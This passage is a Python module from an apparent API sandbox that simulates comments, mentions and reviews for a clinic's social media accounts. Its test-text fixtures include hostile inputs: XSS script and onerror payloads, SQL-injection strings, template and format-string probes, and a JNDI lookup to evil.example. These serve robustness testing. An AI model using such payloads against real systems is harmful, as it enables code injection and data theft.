"""Comments, mentions and reviews the sandbox's platforms produce over time.

What exists is a function of the sandbox's seed and its clock, never of who
asked first or how often: every schedule is drawn from a random.Random seeded
by a string naming the seed and the thing it is for (one of our posts, one
account's day, one location's week), never from the fault dice (Sandbox.rng),
so switching this on or off changes no fault sequence a test relies on.

- Comments: each live post of ours on Facebook, Instagram, LinkedIn and X gets
  its comments' whole schedule the first time anything asks about it: about
  COMMENTS_PER_POST of them (times the conversation_rate knob), at a rate that
  decays after publishing (an exponential with a COMMENT_TAU mean, cut at
  COMMENT_HORIZON), some answered by another person in the thread. Each is
  visible once the clock passes its time.
- Mentions: each account gets about MENTIONS_PER_DAY posts naming it per day,
  drawn day by day (UTC days), from MENTION_HISTORY days before it was first
  asked about up to today.
- Reviews: each Google location gets about REVIEWS_PER_WEEK reviews a week,
  drawn week by week from REVIEWS_EPOCH, with a spread of stars (some one- and
  two-star complaints), some without text, some already answered by the owner.
- Edits and deletions: some items change their text later (a review maybe its
  stars too) and some disappear, at scheduled times; visible only once the
  clock passes them. The admin endpoints edit and delete at once.

Texts mix ordinary thanks, questions and complaints with people naming their
own care and with hostile text (markup, script, SQL-ish quotes, 5,000
characters, right-to-left scripts, emoji with zero-width joiners): what a
real inbox gets and what the product must store and show exactly.

Everything lives in a Store on the Sandbox, indexed by post and by account, so
a call touches only the items it answers about. Per-platform wire formats are
in the platform modules; this module is platform-neutral.
"""

from __future__ import annotations

import base64
import bisect
import hashlib
import hmac
import itertools
import json
import logging
import math
import random
import urllib.error
import urllib.request
from collections import deque
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from sandbox.core import iso
from sandbox.state import Post, Sandbox
from sandbox.users import FACEBOOK_PAGES, INSTAGRAM_USER, LINKEDIN_ORGS, X_USER

log = logging.getLogger(__name__)

COMMENT_PLATFORMS = ("facebook", "instagram", "linkedin", "x")
KINDS = {
    "facebook": ("comment", "mention"),
    "instagram": ("comment", "mention"),
    "linkedin": ("comment", "mention"),
    "x": ("comment", "mention"),
    "google_business": ("review",),
}
COMMENTS_PER_POST = 4.0
COMMENT_TAU = timedelta(hours=6)
COMMENT_HORIZON = timedelta(days=14)
THREAD_REPLY_RATE = 0.15  # a comment answered by another person
EDIT_RATE = 0.08
DELETE_RATE = 0.06
MENTIONS_PER_DAY = 0.35
MENTION_HISTORY = 30  # days drawn before an account is first asked about
MENTION_EPOCH = datetime(2026, 1, 1, tzinfo=UTC)
REVIEWS_PER_WEEK = 0.7
REVIEWS_EPOCH = datetime(2025, 1, 1, tzinfo=UTC)
REVIEW_EDIT_RATE = 0.1
REVIEW_DELETE_RATE = 0.03
OWNER_REPLIED_RATE = 0.35
# Longest text each platform takes in a comment or review (unconfirmed, from
# third-party guides): the generator's long texts fit them.
MAX_TEXT = {
    "facebook": 8_000,
    "instagram": 2_200,
    "linkedin": 1_250,
    "x": 25_000,  # long posts (note_tweet), for subscribers
    "google_business": 4_096,
}
# X ids are snowflakes: milliseconds since X's epoch in the high bits.
TWEPOCH_MS = 1_288_834_974_657
# Webhook deliveries kept for GET /_sandbox/webhooks.
KEPT_DELIVERIES = 200
WEBHOOK_TIMEOUT = 5.0
# Items copied per look when walking an account's items newest first.
CHUNK = 500


def snowflake(when: datetime, low: int) -> str:
    """An X id for something made at `when` (time-ordered, as X's are)."""
    ms = int(when.timestamp() * 1000) - TWEPOCH_MS
    return str((ms << 22) | (low & 0x3FFFFF))


def snowflake_time(value: str) -> datetime | None:
    try:
        ms = (int(value) >> 22) + TWEPOCH_MS
    except ValueError:
        return None
    return datetime.fromtimestamp(ms / 1000, UTC)


def micros(when: datetime) -> int:
    return int(when.timestamp() * 1_000_000)


@dataclass
class Edit:
    at: datetime
    text: str
    rating: int | None = None


@dataclass
class Item:
    """One comment, mention or review, with its whole (scheduled) life."""

    platform: str
    account: str  # our account it belongs to: page, IG user, org URN, X user, location
    kind: str  # "comment", "mention" or "review"
    id: str
    text: str
    author_id: str
    author_name: str
    created_at: datetime
    post_id: str | None = None  # our post (comments); the mentioning post (mentions)
    parent_id: str | None = None  # the comment it answers, in a thread
    rating: int | None = None
    from_us: bool = False
    hidden: bool = False
    deleted_at: datetime | None = None
    edits: list[Edit] = field(default_factory=list)
    reply: Edit | None = None  # Google: the owner's reply
    extra: dict[str, Any] = field(default_factory=dict)
    seq: int = 0
    key: tuple[int, int] = (0, 0)  # (created_at in microseconds, seq): sort and cursor key

    def visible(self, now: datetime) -> bool:
        return self.created_at <= now and (self.deleted_at is None or self.deleted_at > now)

    def current(self, now: datetime) -> Edit | None:
        """The latest edit the clock has passed, if any."""
        found = None
        for edit in self.edits:
            if edit.at <= now:
                found = edit
        return found

    def text_at(self, now: datetime) -> str:
        edit = self.current(now)
        return edit.text if edit else self.text

    def rating_at(self, now: datetime) -> int | None:
        edit = self.current(now)
        return edit.rating if edit and edit.rating is not None else self.rating

    def updated_at(self, now: datetime) -> datetime:
        edit = self.current(now)
        return edit.at if edit else self.created_at

    def reply_at(self, now: datetime) -> Edit | None:
        return self.reply if self.reply is not None and self.reply.at <= now else None

    def to_json(self, now: datetime) -> dict[str, Any]:
        """The sandbox's own view (GET /_sandbox/conversations), platform-neutral."""
        reply = self.reply_at(now)
        return {
            "platform": self.platform,
            "account": self.account,
            "kind": self.kind,
            "id": self.id,
            "post_id": self.post_id,
            "parent_id": self.parent_id,
            "author_id": self.author_id,
            "author_name": self.author_name,
            "text": self.text_at(now),
            "rating": self.rating_at(now),
            "created_at": iso(self.created_at),
            "updated_at": iso(self.updated_at(now)),
            "from_us": self.from_us,
            "hidden": self.hidden,
            "deleted": self.deleted_at is not None and self.deleted_at <= now,
            "reply": {"text": reply.text, "updated_at": iso(reply.at)} if reply else None,
        }


class Store:
    """Every item, indexed by (platform, id), by post and by account and kind."""

    def __init__(self) -> None:
        self.items: dict[tuple[str, str], Item] = {}
        # Sorted by Item.key (creation order), so pages and cursors are bisects.
        self.by_post: dict[tuple[str, str], list[Item]] = {}
        self.by_account: dict[tuple[str, str, str], list[Item]] = {}
        self.posts_drawn: set[tuple[str, str]] = set()
        # The last day (mentions) or week (reviews) drawn per (platform, account, kind).
        self.drawn_until: dict[tuple[str, str, str], int] = {}
        self.seq = itertools.count(1)
        self.injected = itertools.count(1)
        self.deliveries: deque[dict[str, Any]] = deque(maxlen=KEPT_DELIVERIES)

    def add(self, item: Item) -> Item:
        item.seq = next(self.seq)
        item.key = (micros(item.created_at), item.seq)
        self.items[(item.platform, item.id)] = item
        for alias in item.extra.get("versions", ()):
            self.items[(item.platform, alias)] = item
        if item.post_id is not None and item.kind == "comment":
            bisect.insort(
                self.by_post.setdefault((item.platform, item.post_id), []), item, key=_key
            )
        bisect.insort(
            self.by_account.setdefault((item.platform, item.account, item.kind), []),
            item,
            key=_key,
        )
        return item

    def alias(self, item: Item, other_id: str) -> None:
        """Another id naming the same item (an X post's edited versions)."""
        self.items[(item.platform, other_id)] = item

    def fresh_id(self, platform: str, make: Any) -> str:
        """An id from make() that no item has yet (make draws from a seeded Random)."""
        while True:
            candidate = str(make())
            if (platform, candidate) not in self.items:
                return candidate


def _key(item: Item) -> tuple[int, int]:
    return item.key


def store(sb: Sandbox) -> Store:
    return sb.conversations  # type: ignore[no-any-return]


def seed_of(sb: Sandbox) -> int:
    return sb.seed if sb.seed is not None else 0


def rate(sb: Sandbox, platform: str, account: str) -> float:
    value = sb.knobs(platform, account)["conversation_rate"]
    try:
        return max(0.0, float(value))
    except (TypeError, ValueError):
        return 1.0


# --- looking things up ---------------------------------------------------------


def get(sb: Sandbox, platform: str, item_id: str) -> Item | None:
    """The item this id names (visible or not)."""
    with sb.lock:
        return store(sb).items.get((platform, item_id))


def live(sb: Sandbox, platform: str, item_id: str) -> Item | None:
    """The item if the clock says it exists now."""
    item = get(sb, platform, item_id)
    return item if item is not None and item.visible(sb.now()) else None


def comments_of(sb: Sandbox, post: Post) -> list[Item]:
    """A post's comments and thread replies visible now, oldest first."""
    draw_post(sb, post)
    now = sb.now()
    with sb.lock:
        items = list(store(sb).by_post.get((post.platform, post.id), ()))
    return [i for i in items if i.visible(now)]


def thread_of(sb: Sandbox, top: Item) -> list[Item]:
    """The replies under a top-level comment, visible now, oldest first."""
    now = sb.now()
    with sb.lock:
        items = list(store(sb).by_post.get((top.platform, top.post_id or ""), ()))
    return [i for i in items if i.parent_id == top.id and i.visible(now)]


def account_items(sb: Sandbox, platform: str, account: str, kind: str) -> list[Item]:
    """The account's items of one kind (drawn up to now), sorted oldest first; not copied
    for the caller to bisect in, so only read it under sb.lock."""
    if kind == "mention":
        draw_mentions(sb, platform, account)
    elif kind == "review":
        draw_reviews(sb, account)
    return store(sb).by_account.get((platform, account, kind), [])


def newest_first(
    sb: Sandbox, platform: str, account: str, kind: str, *, before: tuple[int, int] | None = None
) -> Iterator[Item]:
    """The account's items visible now, newest first, strictly before a cursor key.

    Lazy, a chunk at a time copied under the lock: a caller that stops early
    looks at no more than it needs, and items added meanwhile never shift it.
    """
    now = sb.now()
    bound = before
    while True:
        with sb.lock:
            items = account_items(sb, platform, account, kind)
            top = bisect.bisect_right(items, (micros(now), math.inf), key=_key)
            if bound is not None:
                top = min(top, bisect.bisect_left(items, bound, key=_key))
            chunk = items[max(0, top - CHUNK) : top]
        if not chunk:
            return
        for item in reversed(chunk):
            if item.visible(now):
                yield item
        bound = chunk[0].key


def encode_cursor(item: Item) -> str:
    return encode_key(item.key)


def encode_key(key: tuple[int, int]) -> str:
    raw = f"{key[0]}:{key[1]}".encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def decode_cursor(cursor: str | None) -> tuple[int, int] | None:
    if not cursor:
        return None
    try:
        padded = cursor + "=" * (-len(cursor) % 4)
        first, _, second = base64.urlsafe_b64decode(padded.encode()).decode().partition(":")
        return int(first), int(second)
    except (ValueError, UnicodeDecodeError):
        return (0, 0)  # an unknown cursor: past the end, as platforms answer


def page(items: list[Item], cursor: str | None, limit: int) -> tuple[list[Item], str | None]:
    """One page of oldest-first items after a cursor, and the next cursor (None at the end)."""
    after = decode_cursor(cursor)
    start = 0 if after is None else bisect.bisect_right(items, after, key=_key)
    chosen = items[start : start + limit]
    more = len(items) > start + limit
    return chosen, (encode_cursor(chosen[-1]) if more and chosen else None)


def take(items: Iterator[Item], limit: int) -> tuple[list[Item], str | None]:
    """The first `limit` of a newest-first stream, and a cursor when more follow."""
    chosen = list(itertools.islice(items, limit))
    more = next(items, None) is not None
    return chosen, (encode_cursor(chosen[-1]) if more and chosen else None)


# --- what the account writes -------------------------------------------------


def our_name(platform: str, account: str) -> str:
    if platform == "facebook":
        page_ = next((p for p in FACEBOOK_PAGES if p["id"] == account), None)
        return page_["name"] if page_ else f"Practice {account}"
    if platform == "instagram":
        return (
            INSTAGRAM_USER["username"]
            if account == INSTAGRAM_USER["user_id"]
            else our_handle(platform, account)
        )
    if platform == "linkedin":
        org = next((o for o in LINKEDIN_ORGS if f"urn:li:organization:{o['id']}" == account), None)
        return str(org["localizedName"]) if org else "Practice"
    if platform == "x":
        return X_USER["name"] if account == X_USER["id"] else f"User {account}"
    return "Practice (owner)"


def our_handle(platform: str, account: str) -> str:
    """How people write the account's name in a mention: a Page's or an organization's
    name, an X or Instagram username."""
    if platform in ("facebook", "linkedin"):
        return our_name(platform, account)
    if platform == "x":
        return X_USER["username"] if account == X_USER["id"] else f"user{account}"
    if platform == "instagram" and account == INSTAGRAM_USER["user_id"]:
        return INSTAGRAM_USER["username"]
    digits = "".join(ch for ch in account if ch.isdigit())[-6:]
    return f"practice{digits}"


def add_reply(
    sb: Sandbox,
    *,
    platform: str,
    account: str,
    to: Item | None,
    post_id: str | None,
    text: str,
    new_id: str,
) -> Item:
    """Our reply, a comment stored in the thread it answers (from_us).

    to: the item answered, or None for a comment of ours on one of our posts
    (post_id). A comment's thread keeps its top comment as the parent (platforms keep
    threads one level deep); a mention that is a post gets a top-level comment on
    it; a mention in a comment (LinkedIn's COMMENT_MENTION) a reply under it.
    """
    now = sb.now()
    parent = None
    if to is not None:
        post_id = to.post_id
        if to.kind == "comment":
            parent = to.parent_id or to.id
        elif to.kind == "mention" and to.post_id != to.id:
            parent = to.id
    item = Item(
        platform=platform,
        account=account,
        kind="comment",
        id=new_id,
        text=text,
        author_id=account,
        author_name=our_name(platform, account),
        created_at=now,
        post_id=post_id,
        parent_id=parent,
        from_us=True,
    )
    if platform == "x" and to is not None:
        item.extra["conversation_id"] = to.extra.get("conversation_id", to.id)
        item.extra["in_reply_to_user_id"] = to.author_id
        item.extra["replied_to"] = to.id
    with sb.lock:
        store(sb).add(item)
    return item


def delete(sb: Sandbox, item: Item) -> None:
    now = sb.now()
    with sb.lock:
        if item.deleted_at is None or item.deleted_at > now:
            item.deleted_at = now


def edit(sb: Sandbox, item: Item, text: str | None, rating: int | None = None) -> None:
    now = sb.now()
    with sb.lock:
        current = item.current(now)
        new = Edit(
            at=now,
            text=item.text_at(now) if text is None else text,
            rating=rating if rating is not None else (current.rating if current else None),
        )
        # An edit made now replaces the schedule after now.
        kept = [e for e in item.edits if e.at <= now]
        item.edits = [*kept, new]
        if item.platform == "x":
            # On X an edit is a new post id; the first stays in edit_history_tweet_ids.
            st = store(sb)
            version = st.fresh_id("x", lambda: snowflake(now, next(st.injected)))
            item.extra["versions"] = [*item.extra.get("versions", [])[: len(kept)], version]
            st.alias(item, version)


# --- drawing the schedules ---------------------------------------------------


def _rng(sb: Sandbox, *parts: object) -> random.Random:
    return random.Random(":".join(str(p) for p in (seed_of(sb), *parts)))


def _poisson(rng: random.Random, mean: float) -> int:
    if mean <= 0:
        return 0
    if mean > 30:
        return max(0, round(rng.gauss(mean, math.sqrt(mean))))
    limit, product, count = math.exp(-mean), rng.random(), 0
    while product > limit:
        count += 1
        product *= rng.random()
    return count


def draw_post(sb: Sandbox, post: Post) -> None:
    """Draw a post's whole comment schedule, once (later calls cost one set lookup)."""
    if post.platform not in COMMENT_PLATFORMS:
        return
    key = (post.platform, post.id)
    with sb.lock:
        st = store(sb)
        if key in st.posts_drawn:
            return
        st.posts_drawn.add(key)
        rng = _rng(sb, "comments", post.platform, post.id)
        count = min(60, _poisson(rng, COMMENTS_PER_POST * rate(sb, post.platform, post.account)))
        tau, horizon = COMMENT_TAU.total_seconds(), COMMENT_HORIZON.total_seconds()
        cut = 1 - math.exp(-horizon / tau)
        for _ in range(count):
            offset = -tau * math.log(1 - rng.random() * cut)
            created = post.created_at + timedelta(seconds=max(20.0, offset))
            top = _drawn_item(sb, rng, post.platform, post.account, "comment", created, post.id)
            st.add(top)
            if rng.random() < THREAD_REPLY_RATE:
                later = created + timedelta(seconds=rng.uniform(600, 12 * 3600))
                reply = _drawn_item(
                    sb,
                    rng,
                    post.platform,
                    post.account,
                    "comment",
                    later,
                    post.id,
                    parent=top,
                    texts=THREAD_REPLIES,
                )
                st.add(reply)


def _day(when: datetime, epoch: datetime, days: int) -> int:
    return math.floor((when - epoch).total_seconds() / (days * 86400))


def draw_mentions(sb: Sandbox, platform: str, account: str) -> None:
    """Draw the account's mentions day by day up to today (UTC days from MENTION_EPOCH)."""
    if platform not in COMMENT_PLATFORMS:
        return
    key = (platform, account, "mention")
    today = _day(sb.now(), MENTION_EPOCH, 1)
    with sb.lock:
        st = store(sb)
        last = st.drawn_until.get(key)
        if last is not None and last >= today:
            return
        first = today - MENTION_HISTORY if last is None else last + 1
        st.drawn_until[key] = today
        mean = MENTIONS_PER_DAY * rate(sb, platform, account)
        for day in range(first, today + 1):
            rng = _rng(sb, "mentions", platform, account, day)
            start = MENTION_EPOCH + timedelta(days=day)
            for _ in range(_poisson(rng, mean)):
                created = start + timedelta(seconds=rng.uniform(0, 86400))
                st.add(_drawn_item(sb, rng, platform, account, "mention", created, None))


def draw_reviews(sb: Sandbox, location: str) -> None:
    """Draw a location's reviews week by week from REVIEWS_EPOCH up to this week."""
    key = ("google_business", location, "review")
    week = _day(sb.now(), REVIEWS_EPOCH, 7)
    with sb.lock:
        st = store(sb)
        last = st.drawn_until.get(key)
        if last is not None and last >= week:
            return
        st.drawn_until[key] = week
        mean = REVIEWS_PER_WEEK * rate(sb, "google_business", location)
        for number in range(0 if last is None else last + 1, week + 1):
            rng = _rng(sb, "reviews", location, number)
            start = REVIEWS_EPOCH + timedelta(days=7 * number)
            for _ in range(_poisson(rng, mean)):
                created = start + timedelta(seconds=rng.uniform(0, 7 * 86400))
                st.add(_drawn_item(sb, rng, "google_business", location, "review", created, None))


def _drawn_item(
    sb: Sandbox,
    rng: random.Random,
    platform: str,
    account: str,
    kind: str,
    created: datetime,
    post_id: str | None,
    *,
    parent: Item | None = None,
    texts: tuple[str, ...] | None = None,
) -> Item:
    person = rng.choice(PEOPLE)
    rating = None
    if kind == "review":
        rating = rng.choices((5, 4, 3, 2, 1), weights=(52, 18, 8, 8, 14))[0]
        text = "" if rng.random() < 0.12 else review_text(rng, rating, platform)
    elif texts is not None:
        text = rng.choice(texts)
    elif kind == "mention":
        text = mention_text(rng, our_handle(platform, account), platform)
    else:
        text = comment_text(rng, platform)
    item = Item(
        platform=platform,
        account=account,
        kind=kind,
        id="",
        text=text,
        author_id=person_id(platform, person),
        author_name="A Google User" if kind == "review" and rng.random() < 0.05 else person,
        created_at=created,
        post_id=post_id,
        parent_id=parent.id if parent else None,
        rating=rating,
    )
    if kind == "review":
        item.extra["anonymous"] = item.author_name == "A Google User"
    _identify(sb, rng, item, parent)
    # Changes later on: an edit, a deletion, the owner's earlier reply to a review.
    edit_rate = REVIEW_EDIT_RATE if kind == "review" else EDIT_RATE
    if rng.random() < edit_rate:
        at = created + timedelta(seconds=rng.uniform(300, 36 * 3600))
        new_rating = None
        if rating is not None:
            new_rating = max(1, min(5, rating + rng.choice((-2, -1, 1, 2))))
        item.edits.append(Edit(at, edited_text(rng, text, platform), new_rating))
        if platform == "x":
            version = store(sb).fresh_id("x", lambda: snowflake(at, rng.getrandbits(22)))
            item.extra["versions"] = [version]
    if rng.random() < (REVIEW_DELETE_RATE if kind == "review" else DELETE_RATE):
        item.deleted_at = created + timedelta(seconds=rng.uniform(1800, 72 * 3600))
    if kind == "review" and text and rng.random() < OWNER_REPLIED_RATE:
        at = created + timedelta(seconds=rng.uniform(86400, 5 * 86400))
        item.reply = Edit(at, OWNER_REPLIES[0] if (rating or 0) >= 4 else OWNER_REPLIES[1])
    return item


def _identify(sb: Sandbox, rng: random.Random, item: Item, parent: Item | None) -> None:
    """The item's id in its platform's shape, and what the wire formats need besides."""
    st = store(sb)
    platform = item.platform
    if platform == "facebook":
        if item.kind == "comment":
            number = (item.post_id or "").rsplit("_", 1)[-1]
            item.id = st.fresh_id(platform, lambda: f"{number}_{rng.randrange(10**15, 10**16)}")
        else:
            # A post of someone else's that tags the Page: {their id}_{post number}.
            item.id = st.fresh_id(
                platform, lambda: f"{item.author_id}_{rng.randrange(10**15, 10**16)}"
            )
            item.post_id = item.id
    elif platform == "instagram":
        base = 18_000_000_000_000_000 if item.kind == "comment" else 17_850_000_000_000_000
        item.id = st.fresh_id(platform, lambda: base + rng.randrange(10**15))
        if item.kind == "mention":
            item.post_id = item.id
            item.extra["shortcode"] = base64.urlsafe_b64encode(rng.randbytes(8)).decode()[:11]
    elif platform == "linkedin":
        if item.kind == "comment":
            item.id = st.fresh_id(
                platform,
                lambda: f"urn:li:comment:({item.post_id},{rng.randrange(7 * 10**18, 8 * 10**18)})",
            )
        elif rng.random() < 0.3:
            # Named in a comment under a member's post (COMMENT_MENTION).
            source = f"urn:li:ugcPost:{rng.randrange(7 * 10**18, 8 * 10**18)}"
            item.id = st.fresh_id(
                platform,
                lambda: f"urn:li:comment:({source},{rng.randrange(7 * 10**18, 8 * 10**18)})",
            )
            item.post_id = source
            item.extra["action"] = "COMMENT_MENTION"
        else:
            item.id = st.fresh_id(
                platform, lambda: f"urn:li:share:{rng.randrange(7 * 10**18, 8 * 10**18)}"
            )
            item.post_id = item.id
            item.extra["action"] = "SHARE_MENTION"
    elif platform == "x":
        item.id = st.fresh_id(platform, lambda: snowflake(item.created_at, rng.getrandbits(22)))
        item.extra["username"] = username(item.author_name)
        if item.kind == "comment":
            root = item.post_id or ""
            item.extra["conversation_id"] = root
            item.extra["in_reply_to_user_id"] = parent.author_id if parent else item.account
            item.extra["replied_to"] = parent.id if parent else root
        else:
            item.post_id = item.id
            item.extra["conversation_id"] = item.id
    elif platform == "google_business":
        review_id = "AbFvOq" + base64.urlsafe_b64encode(rng.randbytes(24)).decode().rstrip("=")
        item.id = st.fresh_id(platform, lambda: f"{item.account}/reviews/{review_id}")
    if platform == "instagram":
        item.extra["username"] = username(item.author_name)


def person_id(platform: str, name: str) -> str:
    """A stable id for a made-up person on a platform."""
    digest = int(hashlib.sha256(f"{platform}:{name}".encode()).hexdigest()[:15], 16)
    if platform == "facebook":
        return str(10**14 + digest % 10**14)
    if platform == "instagram":
        return str(17_841_450_000_000_000 + digest % 10**13)
    if platform == "linkedin":
        return "urn:li:person:" + base64.urlsafe_b64encode(digest.to_bytes(8, "big")).decode()[:10]
    if platform == "x":
        return str(10**9 + digest % 10**17)
    return ""


def username(name: str) -> str:
    letters = "".join(ch for ch in name.lower() if "a" <= ch <= "z")[:15]
    digest = int(hashlib.sha256(name.encode()).hexdigest()[:6], 16) % 1000
    return f"{letters or 'user'}{digest}"


# --- injecting (the admin endpoints) ------------------------------------------


class InjectError(ValueError):
    """An injection the sandbox cannot honour (answered with 400)."""


def inject(
    sb: Sandbox,
    *,
    platform: str,
    account: str | None,
    kind: str,
    post_id: str | None = None,
    parent_id: str | None = None,
    count: int = 1,
    text: str | None = None,
    rating: int | None = None,
    author_name: str | None = None,
) -> list[Item]:
    """New items at the sandbox's now, as if people had just written them."""
    if platform not in KINDS:
        raise InjectError(f"platform must be one of {tuple(KINDS)}")
    if kind not in KINDS[platform]:
        raise InjectError(f"{platform} has no {kind!r}; it has {KINDS[platform]}")
    if not 1 <= count <= 100_000:
        raise InjectError("count must be between 1 and 100000")
    if rating is not None and (kind != "review" or rating not in (1, 2, 3, 4, 5)):
        raise InjectError("rating is 1 to 5, for reviews only")
    parent = None
    if parent_id:
        parent = get(sb, platform, parent_id)
        if parent is None or parent.kind != "comment":
            raise InjectError(f"no comment {parent_id!r} on {platform}")
        post_id = parent.post_id
        parent = get(sb, platform, parent.parent_id) if parent.parent_id else parent
    if kind == "comment":
        post = sb.get_post(platform, post_id or "")
        if post is None:
            raise InjectError(f"comments need the post_id of a live {platform} post of ours")
        account = post.account
        draw_post(sb, post)
    if not account:
        raise InjectError("account is required")
    if kind == "review" and "/locations/" not in account:
        raise InjectError("account must be a location, accounts/A/locations/L")
    now = sb.now()
    made = []
    with sb.lock:
        st = store(sb)
        for _ in range(count):
            rng = _rng(sb, "inject", next(st.injected))
            item = _drawn_item(
                sb,
                rng,
                platform,
                account,
                kind,
                now,
                post_id,
                parent=parent,
            )
            # Injected items keep exactly what was asked: no schedule of their own.
            item.edits, item.deleted_at, item.reply = [], None, None
            item.extra.pop("versions", None)
            if text is not None:
                item.text = text
            if rating is not None:
                item.rating = rating
            if author_name is not None:
                item.author_name = author_name
                if platform in ("x", "instagram"):
                    item.extra["username"] = username(author_name)
            if platform == "x":
                # Injected at the same instant, X ids must still grow in order.
                item.id = st.fresh_id("x", lambda: snowflake(now, next(st.injected)))
                if kind == "mention":
                    item.post_id = item.id
                    item.extra["conversation_id"] = item.id
            made.append(st.add(item))
    return made


# --- webhooks (Meta) -----------------------------------------------------------


def webhook_payload(sb: Sandbox, item: Item) -> dict[str, Any] | None:
    """What Meta would POST for this item, or None where it sends nothing."""
    epoch = int(item.created_at.timestamp())
    if item.platform == "facebook":
        if item.kind == "comment":
            value: dict[str, Any] = {
                "from": {"id": item.author_id, "name": item.author_name},
                "post": {
                    "id": item.post_id,
                    "status_type": "mobile_status_update",
                    "is_published": True,
                },
                "message": item.text,
                "post_id": item.post_id,
                "comment_id": item.id,
                "created_time": epoch,
                "item": "comment",
                "parent_id": item.parent_id or item.post_id,
                "verb": "add",
            }
            change = {"field": "feed", "value": value}
        else:
            change = {
                "field": "mention",
                "value": {
                    "post_id": item.post_id,
                    "sender_id": item.author_id,
                    "sender_name": item.author_name,
                    "item": "post",
                    "verb": "add",
                },
            }
        return {
            "object": "page",
            "entry": [{"id": item.account, "time": epoch, "changes": [change]}],
        }
    if item.platform == "instagram":
        if item.kind == "comment":
            value = {
                "from": {"id": item.author_id, "username": item.extra.get("username", "")},
                "media": {"id": item.post_id, "media_product_type": "FEED"},
                "id": item.id,
                "text": item.text,
            }
            if item.parent_id:
                value["parent_id"] = item.parent_id
            change = {"field": "comments", "value": value}
        else:
            change = {"field": "mentions", "value": {"media_id": item.post_id}}
        return {
            "object": "instagram",
            "entry": [{"id": item.account, "time": epoch, "changes": [change]}],
        }
    return None


def send_webhooks(sb: Sandbox, items: list[Item]) -> None:
    """POST each new Facebook or Instagram item to the webhook_url knob, signed as Meta
    signs (X-Hub-Signature-256: sha256= HMAC of the raw body with webhook_secret).

    Outside the lock, one delivery at a time: Meta does not batch across objects
    either, and tests want them in order. Off unless webhook_url is set.
    """
    for item in items:
        if item.from_us or item.platform not in ("facebook", "instagram"):
            continue
        knobs = sb.knobs(item.platform, item.account)
        url = knobs.get("webhook_url")
        payload = webhook_payload(sb, item) if url else None
        if not url or payload is None:
            continue
        body = json.dumps(payload).encode()
        secret = str(knobs.get("webhook_secret") or "")
        signature = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
        # The webhook_url knob only takes http(s) URLs (state.Faults.update).
        request = urllib.request.Request(  # noqa: S310
            str(url),
            data=body,
            method="POST",
            headers={
                "Content-Type": "application/json",
                "X-Hub-Signature-256": f"sha256={signature}",
                "User-Agent": "facebookexternalua",
            },
        )
        record: dict[str, Any] = {"url": url, "item": item.id, "payload": payload}
        try:
            with urllib.request.urlopen(request, timeout=WEBHOOK_TIMEOUT) as resp:  # noqa: S310
                record["status"] = resp.status
        except urllib.error.HTTPError as exc:
            record["status"] = exc.code
        except (urllib.error.URLError, OSError) as exc:
            record["status"] = None
            record["error"] = str(exc)
        with sb.lock:
            store(sb).deliveries.append(record)


def due_webhooks(sb: Sandbox, since: datetime) -> list[Item]:
    """Items that became visible after `since`, for accounts with a webhook_url: what a
    clock advance delivers (generated items otherwise appear unannounced)."""
    now = sb.now()
    found: list[Item] = []
    for platform in ("facebook", "instagram"):
        with sb.lock:
            accounts = [a for (p, a) in sb.by_account if p == platform]
        for account in accounts:
            if not sb.knobs(platform, account).get("webhook_url"):
                continue
            for post in sb.recent_posts(platform, account):
                found += [i for i in comments_of(sb, post) if since < i.created_at <= now]
            found += [
                i
                for i in newest_first(sb, platform, account, "mention")
                if since < i.created_at <= now
            ]
    found.sort(key=_key)
    return found


# --- texts ------------------------------------------------------------------

PEOPLE = (
    "Maria Gonzalez",
    "James O'Brien",
    "Priya Raman",
    "Tom Nguyen",
    "Zoë Çelik",
    "Ahmed Al-Sayed",
    "محمد العلي",
    "נועה כהן",
    "Chen Wei",
    "李小龙",
    "Olivia Brown",
    "Dmitri Ivanov",
    "Aisha Bello",
    "Lucas Martin",
    "Grace Kim",
    "Samuel Adeyemi",
    "Emily Johnson",
    "Robert'); DROP TABLE people;--",
    "<b>Bold</b> Name",
    "Jo 👩‍⚕️ Smith",
    "Hannah Müller",
    "Noah Williams",
    "Fatima Zahra",
    "Kevin O’Connor",
    "Sofia Rossi",
    "Ben Carter",
)

THANKS = (
    "Thank you so much to the whole team, you are wonderful!",
    "Best practice in town. Everyone was kind and on time.",
    "Great tip, thanks for sharing!",
    "Love this! ❤️",
    "So helpful, sharing with my mum.",
    "The new waiting room looks amazing 😍",
    "Thanks for the reminder about flu shots.",
)
QUESTIONS = (
    "Are you open on Saturdays?",
    "Do you take Blue Cross insurance?",
    "How do I book an appointment online?",
    "Is there parking near the Main St office?",
    "Do you see new patients? My family just moved here.",
    "What age should kids start coming for check-ups?",
    "Can I get the flu shot without an appointment?",
)
COMPLAINTS = (
    "Waited two hours past my appointment time and nobody said a word.",
    "Rude front desk. Nobody called me back for three days.",
    "Billing charged me twice and I still have no answer.",
    "The phone line is always busy, impossible to reach anyone.",
    "Parking is a nightmare and the signs are confusing.",
)
TREATMENTS = (
    "My IVF transfer with Dr. Lee went perfectly, thank you!",
    "My root canal on March 3 was painless, I could not believe it.",
    "Six weeks after my knee replacement I'm walking the dog again.",
    "Dr. Patel explained my diabetes results so clearly.",
    "After my miscarriage last spring the nurses were so gentle with me.",
    "My son's asthma is finally under control thanks to Dr. Kim.",
    "Got my crown fitted yesterday, it feels like my own tooth.",
    "Dr. Lee, you delivered both my babies. Forever grateful.",
)
ARABIC = "شكراً جزيلاً للطبيب والفريق على الرعاية الممتازة"
HEBREW = "תודה רבה לצוות המרפאה על היחס החם"
HOSTILE = (
    "<script>alert('xss')</script> great clinic",
    '<img src=x onerror="alert(document.cookie)"> see my photo',
    "Robert'); DROP TABLE comments;-- lol",
    "\" OR 1=1 -- '; SELECT * FROM patients WHERE '1'='1",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
    f"{ARABIC} — Dr. Lee",
    f"{HEBREW} (Hebrew) mixed with English",
    "Family 👨‍👩‍👧‍👦 thanks you 👩🏽‍⚕️❤️‍🔥 zero\u200bwidth\u200djoiner\ufeff test",
    "Z̷a̴l̸g̵o̶ text a\u0301 e\u0308 \u202eright-to-left override\u202c done",
    '<a href="javascript:alert(1)">click for a discount</a> &amp; &lt;b&gt;',
)
MENTIONS = (
    "Shout-out to {handle} for squeezing me in today!",
    "{handle} waited two hours in your lobby, not impressed.",
    "Anyone been to {handle}? Looking for a new family doctor.",
